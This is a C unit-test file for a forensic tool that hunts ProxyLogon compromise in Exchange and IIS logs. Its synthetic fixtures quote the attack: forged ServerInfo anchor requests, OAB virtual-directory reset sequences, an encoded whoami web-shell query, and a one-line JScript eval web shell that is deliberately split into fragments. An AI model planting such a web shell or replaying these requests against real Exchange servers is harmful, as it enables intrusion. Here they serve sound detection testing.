#include "test.h"

#include "base/hash.h"
#include "base/num.h"
#include "detect/hunt.h"
#include "os/mem.h"

/* A server in memory, the embedded pack, and a hunt over both. plan.c, logscan.c and hunt.c are tested through it. */
struct world {
    struct test_arena a;
    struct os_mem    *m;
    struct pack       pack;
    struct sigma      sigma;
    struct ev         ev;
    struct hunt      *hunt;
    struct detected   found;
};

#define LOGGING "/case/C/Program Files/Microsoft/Exchange Server/V15/Logging/"
#define FRONT   "/case/C/inetpub/logs/LogFiles/W3SVC1/"
#define BACK    "/case/C/inetpub/logs/LogFiles/W3SVC2/"

static const char iis_head[] =
    "#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port "
    "cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n";
static const char proxy_head[] =
    "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,UrlHost,UrlStem,IsAuthenticated,AuthenticatedUser,"
    "AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,Method,BackEndCookie,ResponseBytes\r\n"
    "#Software: Microsoft Exchange Server\r\n#Log-type: HttpProxy Logs\r\n"
    "#Fields: DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,UrlHost,UrlStem,IsAuthenticated,AuthenticatedUser,"
    "AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,Method,BackEndCookie,ResponseBytes\r\n";

static void begin(struct world *w)
{
    struct err e = { 0 };

    memset(w, 0, sizeof *w);
    w->a = test_arena(192u << 20);
    w->m = os_mem_open(&w->a.a, 0);
    if (!pack_load_embedded(&w->pack, &w->a.a, STR("proxylogon"), &e))
        fail_msg("%s %s", e.what, e.where);
    for (size_t i = 0; i < w->pack.file_n; i++)
        if (str_starts(w->pack.file[i].name, STR("rules/")))
            CHECK(sigma_add(&w->sigma, &w->a.a, w->pack.file[i].name, w->pack.file[i].text, true, &e));
    CHECK(w->sigma.refused_n == 0 && w->sigma.rule_n > 40);
}

static struct str text_of(struct world *w, const char *head, const char *rows)
{
    return str_cat(&w->a.a, str_c(head), str_c(rows));
}

static void add(struct world *w, const char *path, struct str body) { CHECK(os_mem_add(w->m, path, body) != NULL); }

static void look(struct world *w, uint32_t jobs)
{
    struct str          root = STR("/case");
    struct err          e    = { 0 };
    struct hunt_options opt  = { .jobs = jobs, .since_us = TIME_NONE, .until_us = TIME_NONE };

    if (!ev_open(&w->ev, &w->m->os, &w->a.a, &root, 1, &e) ||
        !hunt_open(&w->hunt, &w->m->os, &w->ev, &w->pack, &w->sigma, &opt, &w->a.a, &w->found, &e) ||
        !hunt_files(w->hunt, &e) || !hunt_logs(w->hunt, &e))
        fail_msg("%s %s", e.what, e.where);
}

static void end(struct world *w)
{
    hunt_close(w->hunt);
    ev_close(&w->ev);
    sigma_close(&w->sigma);
    CHECK(w->m->open_now == 0);
    test_arena_free(&w->a);
}

static const struct hit *hit_of(const struct world *w, const char *rule)
{
    for (size_t i = 0; i < w->found.hit_n; i++)
        if (w->found.hit[i].rule < w->sigma.rule_n && str_eq(w->sigma.rule[w->found.hit[i].rule].name, str_c(rule)))
            return &w->found.hit[i];
    return NULL;
}

static void stages_of_forged_requests(void **state)
{
    static const struct { const char *why, *anchor, *status, *rule; } t[] = {
        { "a look-up", "ServerInfo~a]@exch01.example.com:444/autodiscover/autodiscover.xml?#", "200", "httpproxy-autodiscover" },
        { "a look-up that failed is one, too", "ServerInfo~a]@exch01.example.com:444/autodiscover/autodiscover.xml?#", "500", "httpproxy-autodiscover" },
        { "a scanner", "ServerInfo~localhost/ecp/default.flt?", "500", "httpproxy-localhost" },
        { "localhost and 241 is no scanner", "ServerInfo~localhost:444/ecp/proxyLogon.ecp?", "241", "httpproxy-session" },
        { "an identity", "ServerInfo~a]@exch01:444/mapi/emsmdb/?#", "200", "httpproxy-mapi" },
        { "mail", "ServerInfo~a]@exch01:444/EWS/Exchange.asmx?#", "200", "httpproxy-ews" },
        { "a session", "ServerInfo~a]@exch01:444/ecp/proxyLogon.ecp?#", "241", "httpproxy-session" },
        { "200 is no session", "ServerInfo~a]@exch01:444/ecp/proxyLogon.ecp?#", "200", "httpproxy-failed" },
        { "settings read", "ServerInfo~a]@exch01:444/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=X.&schema=OABVirtualDirectory#", "200", "httpproxy-ddi" },
        { "settings written", "ServerInfo~a]@exch01:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=X.&schema=OABVirtualDirectory#", "200", "httpproxy-setobject" },
        { "a file written", "ServerInfo~a]@exch01:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=X.&schema=ResetOABVirtualDirectory#", "200", "httpproxy-reset" },
        { "refused", "ServerInfo~a]@exch01:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=X.&schema=OABVirtualDirectory#", "500", "httpproxy-failed" },
        { "cmdlets", "ServerInfo~a]@exch01:444/powershell/?#", "200", "httpproxy-powershell" },
        { "hidden by percent signs", "ServerInfo~a]@exch01:444/%65cp/DD%49/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#", "200", "httpproxy-reset" },
        { "coexistence", "ServerInfo~exch2010.example.com", "200", "httpproxy-coexistence" },
    };
    (void)state;
    for (size_t i = 0; i < sizeof t / sizeof *t; i++) {
        struct world w;
        begin(&w);
        struct str row = str_fmt(&w.a.a, "%s2021-03-03T06:59:20.359Z,id-1,15,1,2106,2,mail.example.com,/ecp/y.js,false,,%s,python-requests/2.25.1,198.51.100.23,EXCH01,%s,POST,,5000\r\n",
                                 proxy_head, t[i].anchor, t[i].status);
        add(&w, LOGGING "HttpProxy/Ecp/HttpProxy_2021030306-1.LOG", row);
        look(&w, 1);
        const struct hit *h = hit_of(&w, t[i].rule);
        CHECK_WHY(h != NULL, t[i].why);
        CHECK_WHY(h->first.line == 5 && h->first.time_us != TIME_NONE && str_eq(h->client, STR("198.51.100.23")), t[i].why);
        size_t moves = 0;
        for (size_t k = 0; k < w.found.hit_n; k++)
            moves += w.sigma.rule[w.found.hit[k].rule].axis != AXIS_NONE;
        CHECK_WHY(moves == (strcmp(t[i].rule, "httpproxy-coexistence") ? 1 : 0), t[i].why);   /* one stage a row, never two */
        CHECK_STR(w.found.server.name, STR("EXCH01"));
        end(&w);
    }
}

static void forged_cookies_only(void **state)
{
    struct world w;

    (void)state;
    begin(&w);
    add(&w, LOGGING "HttpProxy/Owa/HttpProxy_2021030306-1.LOG",
        text_of(&w, proxy_head,
                "2021-03-03T06:59:20.359Z,id-1,15,1,2106,2,mail.example.com,/owa/,true,B\\anna,Smtp~a@b,x,192.0.2.1,EXCH01,200,GET,Server~exch01.example.com~1941962753~2021-03-03T00:00:00,5\r\n"
                "2021-03-03T06:59:21.359Z,id-2,15,1,2106,2,mail.example.com,/owa/auth/x.js,false,,,x,198.51.100.9,EXCH01,200,POST,Server~exch01/EWS/Exchange.asmx~1~2,77\r\n"));
    look(&w, 1);
    const struct hit *h = hit_of(&w, "httpproxy-ews");
    CHECK(h && h->first.line == 6 && h->count == 1 && h->response_bytes == 77);
    end(&w);
}

static void headers_change_mid_file(void **state)
{
    struct world w;

    (void)state;
    begin(&w);
    add(&w, FRONT "u_ex210303.log",
        text_of(&w, iis_head,
                "2021-03-03 07:02:11 192.0.2.10 POST /aspnet_client/EXAMPLE.aspx - 443 - 198.51.100.23 antSword/v2.1 - 200 0 0 214\r\n"
                "#Fields: date time c-ip cs-method sc-status cs-uri-stem cs-uri-query cs(User-Agent) X-Forwarded-For s-port\r\n"
                "2021-03-03 07:12:11 192.0.2.99 GET 404 /aspnet_client/example.ASPX - Mozilla/5.0 203.0.113.7 443\r\n"));
    look(&w, 1);
    CHECK(w.found.hit_n == 3);                            /* the page twice, and the user agent of the first */
    const struct hit *h = hit_of(&w, "iis-page-aspnet-client");
    CHECK(h && h->status == 200 && h->active);
    bool forwarded = false;
    for (size_t i = 0; i < w.found.hit_n; i++)
        forwarded = forwarded || (w.found.hit[i].status == 404 && str_eq(w.found.hit[i].client, STR("203.0.113.7")) && !w.found.hit[i].active);
    CHECK(forwarded);
    CHECK(w.found.seen[FAM_IIS_FRONT].records == 2 && w.found.seen[FAM_IIS_FRONT].files == 1);
    end(&w);
}

static void sides_of_iis(void **state)
{
    static const char row[] = "2021-03-03 06:59:20 192.0.2.10 POST /ecp/DDI/DDIService.svc/SetObject msExchEcpCanary=X.&schema=ResetOABVirtualDirectory "
                              "444 B\\EXCH01$ 192.0.2.10 python-requests/2.25.1 - 200 0 0 2000\r\n";
    struct world w;

    (void)state;
    begin(&w);
    add(&w, BACK "u_ex210303.log", text_of(&w, iis_head, row));
    add(&w, FRONT "u_ex210303.log", text_of(&w, iis_head, "2021-03-03 06:59:20 192.0.2.10 POST /ecp/DDI/DDIService.svc/SetObject schema=OABVirtualDirectory 443 "
                                            "B\\admin 192.0.2.77 Mozilla/5.0 https://mail/ecp 200 0 0 20\r\n"));
    look(&w, 2);
    CHECK(hit_of(&w, "iis-back-reset") && hit_of(&w, "iis-front-setobject") && !hit_of(&w, "iis-back-setobject"));
    CHECK(w.sigma.rule[hit_of(&w, "iis-front-setobject")->rule].axis == AXIS_NONE);
    end(&w);
}

static void ecp_rows_and_sequences(void **state)
{
    static const char head[] = "#Software: Microsoft Exchange Server\r\n#Log-type: ECP Server Log\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n";
    struct world w;

    (void)state;
    begin(&w);
    add(&w, LOGGING "ECP/Server/ECPServer20210303-1.LOG",
        text_of(&w, head,
                "2021-03-03T06:49:53.772Z,EXCH01,ECP.Request,\"S:TIME=1;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<scr" "ipt language=\"\"JSc" "ript\"\" "
                "run" "at=\"\"server\"\">ev" "al(Request[\"\"orange\"\"],\"\"uns" "afe\"\");</scr" "ipt>''.Identity=''x''';S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=C1.&schema=OABVirtualDirectory\"\r\n"
                "2021-03-03T06:50:00.717Z,EXCH01,ECP.Request,S:TIME=8;'S:CMD=Remove-OABVirtualDirectory.Force=$true.Identity=''x''';S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory\r\n"
                "2021-03-03T06:50:08.396Z,EXCH01,ECP.Request,S:TIME=8;'S:CMD=New-OABVirtualDirectory.Server=''x''.Path=''C:\\\\x''';S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory\r\n"
                "2021-03-05T09:00:00.000Z,EXCH01,ECP.Request,S:TIME=8;'S:CMD=Set-OwaVirtualDirectory.ExternalUrl=''https://mail.bakery.example/owa''.Identity=''x''';S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OWAVirtualDirectory\r\n"));
    look(&w, 1);
    const struct hit *h = hit_of(&w, "ecp-set-script");
    CHECK(h && str_eq(h->key, STR("orange")) && str_eq(h->canary, STR("C1.")));
    CHECK(str_find(h->first.excerpt, STR("Request")) == STR_NONE);       /* the script itself stays out */
    CHECK(hit_of(&w, "ecp-reset") && hit_of(&w, "ecp-reset")->last_us - hit_of(&w, "ecp-reset")->first_us < 10 * TIME_SECOND);
    CHECK(hit_of(&w, "ecp-set-clean") && !hit_of(&w, "ecp-set-odd-url"));
    end(&w);
}

static void encoded_words_are_read(void **state)
{
    struct world w;

    (void)state;
    begin(&w);
    add(&w, FRONT "u_ex210303.log",
        text_of(&w, iis_head, "2021-03-03 07:02:11 192.0.2.10 GET /aspnet_client/e.aspx orange=%77hoami 443 - 198.51.100.23 x - 200 0 0 214\r\n"
                              "2021-03-03 07:02:12 192.0.2.10 GET /%61spnet_client/e.aspx %77ho%61mi 443 - 198.51.100.23 x - 200 0 0 214\r\n"));
    look(&w, 1);
    const struct hit *h = hit_of(&w, "iis-command-query");
    CHECK(h && h->last_us - h->first_us == TIME_SECOND);
    end(&w);
}

static void coverage_knows_holes(void **state)
{
    struct world w;

    (void)state;
    begin(&w);
    add(&w, FRONT "u_ex210303.log",
        text_of(&w, iis_head, "2021-03-01 00:00:00 192.0.2.10 GET / - 443 - 192.0.2.1 x - 200 0 0 1\r\n2021-03-02 12:00:00 192.0.2.10 GET / - 443 - 192.0.2.1 x - 200 0 0 1\r\n"
                              "2021-03-04 00:00:01 192.0.2.10 GET / - 443 - 192.0.2.1 x - 200 0 0 1\r\n"));
    add(&w, FRONT "u_ex210220.log", text_of(&w, iis_head, "2021-02-20 00:00:00 192.0.2.10 GET / - 443 - 192.0.2.1 x - 200 0 0 1\r\n"));
    look(&w, 1);
    const struct seen *s = &w.found.seen[FAM_IIS_FRONT];
    CHECK(s->files == 2 && s->records == 4 && s->span_n == 3);           /* 36 h is no hole, a second more is */
    CHECK(s->span[1].to_us - s->span[1].from_us == 36 * TIME_HOUR);
    CHECK(w.found.newest_us == s->newest_us);
    end(&w);
}

static void threads_change_nothing(void **state)
{
    uint8_t digest[2][32];

    (void)state;
    for (uint32_t jobs = 1; jobs <= 4; jobs += 3) {
        struct world w;
        begin(&w);
        for (int i = 0; i < 40; i++) {
            char path[128];
            snprintf(path, sizeof path, FRONT "u_ex2103%02d.log", i % 28 + 1 + (i / 28) * 30);
            add(&w, path, str_fmt(&w.a.a, "%s2021-03-%02d 07:02:11 192.0.2.10 POST /aspnet_client/p%d.aspx - 443 - 198.51.100.%d x - 200 0 0 214\r\n", iis_head,
                                  i % 28 + 1, i % 5, i % 7));
        }
        look(&w, jobs);
        struct str all = STR("");
        for (size_t i = 0; i < w.found.hit_n; i++)
            all = str_fmt(&w.a.a, "%.*s|%u %.*s %.*s %u", STR_ARG(all), w.found.hit[i].first.node, STR_ARG(w.found.hit[i].url), STR_ARG(w.found.hit[i].client),
                          w.found.hit[i].count);
        CHECK(all.n > 100);
        hash_sha256(all, digest[jobs > 1]);
        end(&w);
    }
    CHECK(memcmp(digest[0], digest[1], 32) == 0);
}

static void many_hits_in_one_file(void **state)
{
    enum { ROWS = 30000 };
    struct world w;

    (void)state;
    begin(&w);
    char  *body = malloc(ROWS * 140 + sizeof iis_head);
    size_t n    = (size_t)sprintf(body, "%s", iis_head);
    for (int i = 0; i < ROWS; i++)
        n += (size_t)sprintf(body + n, "2021-03-03 07:02:11 192.0.2.10 POST /aspnet_client/e%d.aspx - 443 - 198.51.%d.%d x - 200 0 0 214\r\n", i, i / 250, i % 250);
    add(&w, FRONT "u_ex210303.log", (struct str){ (uint8_t *)body, n });
    look(&w, 1);
    CHECK(w.found.hit_n == ROWS && w.found.hit_more == 0);
    CHECK(w.found.hit[ROWS - 1].first.line == ROWS + 2);
    end(&w);
    free(body);
}

static void a_rule_without_literal_still_matches(void **state)
{
    struct world w;
    struct err   e = { 0 };

    (void)state;
    begin(&w);
    CHECK(sigma_add(&w.sigma, &w.a.a, STR("rules/teapot.yml"),
                    STR("title: t\nlogsource: {category: webserver}\ndetection: {s: {sc-status: 418}, condition: s}\n"), false, &e));
    add(&w, FRONT "u_ex210303.log",
        text_of(&w, iis_head, "2021-03-03 07:02:11 192.0.2.10 GET / - 443 - 198.51.100.23 x - 418 0 0 214\r\n\r\n"
                              "2021-03-03 07:02:12 192.0.2.10 POST /aspnet_client/e.aspx - 443 - 198.51.100.23 x - 200 0 0 214\r\n"));
    look(&w, 1);
    CHECK(hit_of(&w, "teapot") && hit_of(&w, "teapot")->count == 1 && hit_of(&w, "teapot")->first.line == 3);
    CHECK(hit_of(&w, "iis-page-aspnet-client") && hit_of(&w, "iis-page-aspnet-client")->count == 1);
    end(&w);
}

/* What the files say is looked for in the logs: a page's name, a staged file under a harmless one, the key of a planted script. */
static void files_teach_the_logs(void **state)
{
    static const uint8_t zip[] = "PK\x03\x04................................";
    struct world w;

    (void)state;
    begin(&w);
    struct str page = str_fmt(&w.a.a, "<%%@ Page Language=\"J%sript\"%%><%%ev%s(Request.Item[\"%s\"],\"un%se\");%%>", "Sc", "al", "Sesame77", "saf");
    add(&w, "/case/C/inetpub/wwwroot/aspnet_client/odd.aspx", page);
    struct os_mem_node *staged = os_mem_add(w.m, "/case/C/inetpub/wwwroot/aspnet_client/system_web/picture.bmp.zip", (struct str){ zip, sizeof zip - 1 });
    CHECK(time_parse(STR("2021-03-03T06:59:00Z"), &staged->mtime_us));
    add(&w, FRONT "u_ex210303.log",
        text_of(&w, iis_head, "2021-03-03 07:02:11 192.0.2.10 GET /aspnet_client/system_web/picture.bmp.zip - 443 - 198.51.100.23 x - 200 0 0 214\r\n"
                              "2021-03-03 07:03:11 192.0.2.10 GET /Aspnet_Client/ODD.aspx - 443 - 198.51.100.23 x - 200 0 0 214\r\n"
                              "2021-03-03 07:04:11 192.0.2.10 GET /reports/other.aspx Sesame77=x 443 - 198.51.100.23 x - 200 0 0 214\r\n"
                              "2021-03-03 07:05:11 192.0.2.10 GET /reports/other.aspx NotSesame77=x 443 - 192.0.2.9 x - 200 0 0 214\r\n"));
    look(&w, 1);
    int page_n = 0, loot_n = 0, key_n = 0;
    for (size_t i = 0; i < w.found.hit_n; i++) {
        const struct hit *h = &w.found.hit[i];
        if (h->rule != RULE_LEARNT)
            continue;
        page_n += h->sign == SIGN_PAGE && str_eq(h->url, STR("/aspnet_client/odd.aspx"));
        loot_n += h->sign == SIGN_LOOT;
        key_n  += str_eq(h->key, STR("Sesame77")) && str_eq(h->url, STR("/reports/other.aspx")) && h->count == 1;
    }
    if (page_n != 1 || loot_n != 1 || key_n != 1)
        fail_msg("pages %d, staged files %d, keys %d, facts %zu", page_n, loot_n, key_n, w.found.fact_n);
    end(&w);
}

static void the_pivot_counts_and_finds(void **state)
{
    struct world w;
    struct err   e        = { 0 };
    struct str   client[] = { STR("192.0.2.50"), STR("198.51.100.23") };

    (void)state;
    begin(&w);
    add(&w, FRONT "u_ex210303.log",
        text_of(&w, iis_head, "2021-03-03 07:02:11 192.0.2.10 POST /aspnet_client/e.aspx - 443 - 198.51.100.23 x - 200 0 0 214\r\n"
                              "2021-03-03 07:03:11 192.0.2.10 GET /owa/ - 443 - 198.51.100.23 x - 302 0 0 214\r\n"
                              "2021-03-03 07:04:11 192.0.2.10 GET /owa/ - 443 - 198.51.100.230 x - 302 0 0 214\r\n"
                              "2021-03-03 07:05:11 192.0.2.10 GET /owa/ - 443 B\\anna 192.0.2.50 x - 200 0 0 214\r\n"));
    look(&w, 1);
    size_t before = w.found.hit_n;
    CHECK(hunt_pivot(w.hunt, client, 2, NULL, 0, &e));
    CHECK(w.found.client_n == 2);
    CHECK(w.found.client[0].requests == 1 && w.found.client[0].authenticated == 1 && str_eq(w.found.client[0].some_user, STR("B\\anna")));
    CHECK(w.found.client[1].requests == 2 && w.found.client[1].authenticated == 0);     /* .230 is another address */
    CHECK(w.found.hit_n == before + 2);                                                 /* what was known already is not told twice */
    end(&w);
}

/* Contract, client: not a c-ip of lines that carry the field, even when the outer balancer's own lines were of no interest to the first pass. */
static void a_balancer_shows_itself_late(void **state)
{
    struct world w;
    struct err   e        = { 0 };
    struct str   client[] = { STR("192.0.2.51") };
    size_t       n        = 0;

    (void)state;
    begin(&w);
    add(&w, FRONT "u_ex210303.log",
        text_of(&w, "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status X-Forwarded-For\r\n",
                "2021-03-03 07:02:11 192.0.2.10 GET /owa/ - 443 - 192.0.2.50 x 302 203.0.113.9\r\n"
                "2021-03-03 07:03:11 192.0.2.10 POST /aspnet_client/e.aspx - 443 - 192.0.2.50 x 200 198.51.100.23,+192.0.2.51:443\r\n"
                "2021-03-03 07:04:11 192.0.2.10 GET /owa/ - 443 B\\anna 192.0.2.51 x 200 203.0.113.10\r\n"));
    look(&w, 1);
    CHECK(hunt_pivot(w.hunt, client, 1, NULL, 0, &e));
    for (size_t i = 0; i < w.found.hit_n; i++)
        if (str_eq(w.found.hit[i].url, STR("/aspnet_client/e.aspx"))) {
            CHECK_STR(w.found.hit[i].client, STR("198.51.100.23"));
            n++;
        }
    CHECK(n > 0);
    end(&w);
}

/* Contract: one report speaks of one server. */
static void several_servers_are_told(void **state)
{
    static const char head[] = "#Software: Microsoft Exchange Server\r\n#Log-type: ECP Server Log\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n";
    static const struct { const char *second; bool told; } c[] = { { "EXCH02", true }, { "exch01", false }, { "EXCH01.bakery.example", false } };

    (void)state;
    for (size_t i = 0; i < COUNT_OF(c); i++) {
        struct world w;
        char row[128];
        bool told = false;
        begin(&w);
        snprintf(row, sizeof row, "2021-03-04T06:59:17.960Z,%s,ECP.Request,S:TIME=1\r\n", c[i].second);
        add(&w, LOGGING "ECP/Server/ECPServer20210303-1.LOG", text_of(&w, head, "2021-03-03T06:59:17.960Z,EXCH01,ECP.Request,S:TIME=1\r\n"));
        add(&w, LOGGING "ECP/Server/ECPServer20210304-1.LOG", text_of(&w, head, row));
        look(&w, 1);
        for (size_t k = 0; k < w.found.fact_n; k++)
            told |= str_eq(w.found.fact[k].detector, STR("logs/servers"));
        CHECK(told == c[i].told);
        end(&w);
    }
}

/* Names in logs are what clients asked for; those in the bindings are the server's own. Both, sorted, each once. */
static void names_from_bindings(void **state)
{
    static const char config[] =
        "<configuration><system.applicationHost><sites><site name=\"Default Web Site\" id=\"1\"><application path=\"/\"><virtualDirectory path=\"/\" physicalPath=\"C:\\inetpub\\wwwroot\"/>"
        "</application><bindings><binding protocol=\"https\" bindingInformation=\"*:443:owa.bakery.example\"/><binding protocol=\"https\" bindingInformation=\"*:443:mail.bakery.example\"/>"
        "</bindings></site></sites></system.applicationHost></configuration>";
    struct world w;

    (void)state;
    begin(&w);
    add(&w, LOGGING "HttpProxy/Owa/HttpProxy_2021030306-1.LOG",
        text_of(&w, proxy_head, "2021-03-03T06:59:17.960Z,a,15,1,2106,2,mail.bakery.example,/owa/,true,x,y,z,198.51.100.7,EXCH01,200,GET,,0\r\n"
                                "2021-03-03T06:59:18.960Z,b,15,1,2106,2,autodiscover.bakery.example,/owa/,true,x,y,z,198.51.100.7,EXCH01,200,GET,,0\r\n"));
    add(&w, "/case/C/Windows/System32/inetsrv/config/applicationHost.config", str_c(config));
    look(&w, 1);
    const struct server *s = &w.found.server;
    CHECK(s->fqdn_n == 3);
    CHECK_STR(s->fqdn[0], STR("autodiscover.bakery.example"));
    CHECK_STR(s->fqdn[1], STR("mail.bakery.example"));
    CHECK_STR(s->fqdn[2], STR("owa.bakery.example"));
    end(&w);
}

static void damage_is_told(void **state)
{
    struct world w;
    static uint8_t nul[4096];

    (void)state;
    begin(&w);
    struct str body = text_of(&w, iis_head, "2021-03-03 07:02:11 192.0.2.10 POST /aspnet_client/e.aspx - 443 - 198.51.100.23 x - 200 0 0 214\r\n");
    body = str_cat(&w.a.a, body, (struct str){ nul, sizeof nul });
    body = str_cat(&w.a.a, body, STR("2021-03-03 07:09:11 192.0.2.10 POST /aspnet_client/e.aspx - 443 - 198.51.100.23"));
    add(&w, FRONT "u_ex210303.log", body);
    add(&w, FRONT "u_ex210304.log", STR("no header here\r\n2021-03-03 07:02:11 192.0.2.10 POST /aspnet_client/e.aspx\r\n"));
    struct os_mem_node *gone = os_mem_add(w.m, FRONT "u_ex210305.log", STR("x"));
    gone->vanished = true;
    look(&w, 1);
    CHECK(hit_of(&w, "iis-page-aspnet-client"));
    CHECK(w.found.seen[FAM_IIS_FRONT].damage_n >= 2);
    CHECK(w.ev.refused_n >= 1);
    end(&w);
}

/* Every call of the disk fails once: the hunt says so, in `refused` or as an error, and never falls over. */
static void survives_a_failing_disk(void **state)
{
    (void)state;
    for (uint32_t n = 1; n < 200; n++) {
        struct world        w;
        struct err          e    = { 0 };
        struct str          root = STR("/case");
        struct hunt_options opt  = { .jobs = 1, .since_us = TIME_NONE, .until_us = TIME_NONE };
        begin(&w);
        add(&w, FRONT "u_ex210303.log", text_of(&w, iis_head, "2021-03-03 07:02:11 192.0.2.10 POST /aspnet_client/e.aspx - 443 - 198.51.100.23 x - 200 0 0 214\r\n"));
        add(&w, LOGGING "HttpProxy/Ecp/HttpProxy_2021030306-1.LOG", str_c(proxy_head));
        w.m->fault = (struct fault){ .left = n };
        bool ok = ev_open(&w.ev, &w.m->os, &w.a.a, &root, 1, &e) &&
                  hunt_open(&w.hunt, &w.m->os, &w.ev, &w.pack, &w.sigma, &opt, &w.a.a, &w.found, &e) && hunt_files(w.hunt, &e) && hunt_logs(w.hunt, &e);
        bool fired = w.m->fault.fired;
        if (fired && ok && !hit_of(&w, "iis-page-aspnet-client") && w.ev.refused_n == 0 && w.found.seen[FAM_IIS_FRONT].damage_n == 0)
            fail_msg("fault %u was swallowed", n);
        if (!ok)
            CHECK(e.kind != ERR_NONE && e.what[0]);
        end(&w);
        if (!fired)
            return;
    }
    fail_msg("the sweep does not end");
}

static void what_was_refused_is_missing(void **state)
{
    struct world w;

    (void)state;
    begin(&w);
    add(&w, FRONT "u_ex210303.log", text_of(&w, iis_head, "2021-03-03 07:02:11 192.0.2.10 GET /owa/ - 443 - 198.51.100.7 x - 200 0 0 214\r\n"));
    add(&w, FRONT "u_ex210304.log", text_of(&w, iis_head, "2021-03-04 07:02:11 192.0.2.10 GET /owa/ - 443 - 198.51.100.7 x - 200 0 0 214\r\n"));
    add(&w, "/case/C/inetpub/wwwroot/aspnet_client/x.aspx", STR("x"));
    os_mem_find(w.m, STR(FRONT "u_ex210304.log"))->unreadable = true;
    os_mem_find(w.m, STR("/case/C/inetpub/wwwroot/aspnet_client"))->unreadable = true;
    look(&w, 1);
    CHECK(w.ev.refused_n == 2);
    CHECK(w.found.seen[FAM_IIS_FRONT].roots_missing && str_has(w.found.seen[FAM_IIS_FRONT].missing, STR("u_ex210304.log")));
    CHECK(w.found.seen[FAM_WEB_ROOTS].roots_missing && str_has(w.found.seen[FAM_WEB_ROOTS].missing, STR("aspnet_client")));
    CHECK(!w.found.seen[FAM_HTTPPROXY].roots_missing);
    end(&w);
}

int main(void)
{
    const struct CMUnitTest t[] = {
        cmocka_unit_test(stages_of_forged_requests), cmocka_unit_test(forged_cookies_only), cmocka_unit_test(headers_change_mid_file),
        cmocka_unit_test(sides_of_iis), cmocka_unit_test(ecp_rows_and_sequences), cmocka_unit_test(encoded_words_are_read),
        cmocka_unit_test(coverage_knows_holes), cmocka_unit_test(threads_change_nothing), cmocka_unit_test(many_hits_in_one_file),
        cmocka_unit_test(a_rule_without_literal_still_matches), cmocka_unit_test(files_teach_the_logs), cmocka_unit_test(the_pivot_counts_and_finds),
        cmocka_unit_test(a_balancer_shows_itself_late), cmocka_unit_test(several_servers_are_told),
        cmocka_unit_test(names_from_bindings), cmocka_unit_test(damage_is_told), cmocka_unit_test(what_was_refused_is_missing), cmocka_unit_test(survives_a_failing_disk),
    };
    return cmocka_run_group_tests(t, NULL, NULL);
}
